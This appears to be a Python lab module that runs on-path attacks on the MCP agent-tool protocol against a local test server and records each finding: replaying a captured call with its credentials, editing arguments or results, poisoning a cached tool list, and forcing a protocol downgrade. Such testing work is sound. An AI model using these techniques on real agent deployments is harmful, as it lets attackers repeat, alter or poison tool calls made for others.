"""Attackers on the path of MCP: replay, edits, poisoned caches, downgrades, stolen sessions."""

from __future__ import annotations

from abc import abstractmethod
from collections.abc import Callable
from typing import Any, ClassVar

import httpx2

from agentcomm.protocols.attacks.base import Outcome
from agentcomm.protocols.attacks.mcp_lab import LEGACY, MODERN, MCPAttack, MCPParts, client, result_of, serving
from agentcomm.protocols.attacks.trying import Tried, tried
from agentcomm.protocols.onpath import OnPath
from agentcomm.protocols.tampering import Tampering, read_rules
from agentcomm.protocols.taps import tampered_http

MAX_SEEN = 100
POISON = "POISONED"


class Recorder(httpx2.AsyncBaseTransport):
    """Keeps the last requests of one client that carry a call of a tool."""

    def __init__(self, inner: httpx2.AsyncBaseTransport) -> None:
        self.inner = inner
        self.seen: list[httpx2.Request] = []

    async def handle_async_request(self, request: httpx2.Request) -> httpx2.Response:
        """Record and forward."""
        body = await request.aread() if request.method == "POST" else b""
        if b'"tools/call"' in body:
            copy = httpx2.Request("POST", request.url, headers=request.headers, content=body)
            self.seen = [*self.seen[-MAX_SEEN:], copy]
        return await self.inner.handle_async_request(request)

    async def aclose(self) -> None:
        """Close the transport below."""
        await self.inner.aclose()


def on_path(attacker: OnPath) -> Callable[[httpx2.AsyncBaseTransport], httpx2.AsyncBaseTransport]:
    """An attacker around a client's HTTP transport."""
    return lambda inner: tampered_http(httpx2, inner, attacker)


async def added(parts: MCPParts, url: str, **options: Any) -> Tried:
    """What comes of connecting to a server and adding 2 and 3: the version spoken, and the sum."""

    async def ask() -> Any:
        async with client(parts, url, "alice", **options) as caller:
            result = result_of(await caller.call_tool("add", {"a": 2, "b": 3}))
            return caller.protocol_version, result

    return await tried(ask())


class Replay(MCPAttack):
    """Records the victim's call of a tool, credentials included, and sends it twice more."""

    name = "replay"
    finding = "a call that is sent three times is executed three times"

    async def attempt(self, parts: MCPParts) -> Outcome:
        """Record one call and repeat it."""
        recorder = Recorder(httpx2.AsyncHTTPTransport())
        async with serving(parts) as target:
            plain = await added(parts, target.url, wire=lambda _: recorder)
            once = len(target.calls)
            async with httpx2.AsyncClient() as attacker:
                for _ in range(2):
                    if recorder.seen:
                        await tried(attacker.send(recorder.seen[-1]))
            executions = len(target.calls)
        honest = plain.worked and plain.value[1] == 5
        return Outcome(executions > once, honest, {"executions": executions, "honest": plain.word})


class _Edited(MCPAttack):
    """Edits what passes; the subclass says what, and how success is seen."""

    rule: ClassVar[str]

    async def attempt(self, parts: MCPParts) -> Outcome:
        """Call the tool without and with the attacker on the path."""
        async with serving(parts) as target:
            plain = await added(parts, target.url)
            wire = on_path(OnPath("mcp", read_rules([self.rule])))
            edited = await added(parts, target.url, wire=wire)
            inputs = [a for a, _ in target.calls]
        answer = edited.value[1] if edited.worked else None
        honest = plain.worked and plain.value[1] == 5
        evidence = {"inputs": inputs, "answer": answer, "attacked": edited.word, "honest": plain.word}
        return Outcome(self.worked(inputs, answer), honest, evidence)

    @abstractmethod
    def worked(self, inputs: list[Any], answer: Any) -> bool:
        """Whether the edit had its effect."""


class EditRequest(_Edited):
    """Changes an argument of the victim's call."""

    name = "edit_request"
    finding = "an edited call is executed"
    rule = "edit:direction=request,path=params.arguments.a,to=40"

    def worked(self, inputs: list[Any], answer: Any) -> bool:
        """Whether the tool was called with the edited argument."""
        return 40 in inputs


class EditAnswer(_Edited):
    """Changes the result of the victim's call."""

    name = "edit_answer"
    finding = "an edited result is accepted"
    rule = "edit:direction=response,path=..structuredContent.result,to=666"

    def worked(self, inputs: list[Any], answer: Any) -> bool:
        """Whether the client accepted the edited result."""
        return bool(answer == 666)


class CachePoisoning(MCPAttack):
    """Edits one list of tools, asks for it to be cached, and is gone."""

    name = "cache_poisoning"
    finding = "one poisoned list of tools stays in the client's cache after the attacker has left"

    async def attempt(self, parts: MCPParts) -> Outcome:
        """List the tools under attack, and again after it."""
        rules = [
            f"description:to={POISON}",
            "edit:method=tools/list,path=result.ttlMs,to=1000000000000",
            "edit:method=tools/list,path=result.cacheScope,to=public",
        ]
        attacker = OnPath("mcp", read_rules(rules))

        async def lists(**options: Any) -> list[str]:
            async with client(parts, target.url, "alice", **options) as caller:
                first = await tried(caller.list_tools())
                if options:
                    attacker.tampering = Tampering()
                second = await caller.list_tools()
                return [got.tools[0].description or "" for got in (*([first.value] if first.worked else []), second)]

        async with serving(parts) as target:
            plain = await tried(lists())  # the first contact is honest
            attacked = await tried(lists(wire=on_path(attacker)))
        poisoned = attacked.worked and attacked.value[-1] == POISON
        honest = plain.worked and POISON not in plain.value
        evidence = {"lists": attacked.value, "attacked": attacked.word, "honest": plain.word}
        return Outcome(poisoned, honest, evidence)


class Downgrade(MCPAttack):
    """Answers ``server/discover`` with an error, so that the client falls back to an older version of the protocol."""

    name = "downgrade"
    finding = "a client silently falls back to the older protocol when discovery fails"

    async def attempt(self, parts: MCPParts) -> Outcome:
        """Connect without and with the attacker on the path."""
        attacker = OnPath("mcp", read_rules(["refuse:method=server/discover"]))
        async with serving(parts) as target:
            plain = await added(parts, target.url)
            attacked = await added(parts, target.url, wire=on_path(attacker))
        succeeded = attacked.worked and attacked.value[0] == LEGACY
        honest = plain.worked and plain.value == (MODERN, 5)
        evidence = {"version": attacked.value[0] if attacked.worked else None, "attacked": attacked.word}
        return Outcome(succeeded, honest, {**evidence, "honest": plain.word})
